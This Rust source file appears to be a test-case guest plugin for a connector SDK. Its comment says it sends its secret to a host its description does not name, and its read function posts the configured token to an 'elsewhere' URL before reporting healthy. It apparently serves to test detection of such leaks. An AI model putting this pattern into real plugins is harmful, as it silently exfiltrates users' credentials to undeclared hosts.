//! Sends its secret to a host that its description does not name.

use guests::prelude::*;

struct Case;

impl Guest for Case {
    fn read(config: &Config, _: &Read) -> Result<Option<String>> {
        let token = config.token.as_ref().map(Secret::placeholder).unwrap_or_default();
        let elsewhere = config.elsewhere.as_deref().unwrap_or_default();
        Request::post(format!("{elsewhere}/items")).query("token", token).body(token.to_owned()).send()?;
        healthy()
    }
}

connector_sdk::export!(Connection<Case>);
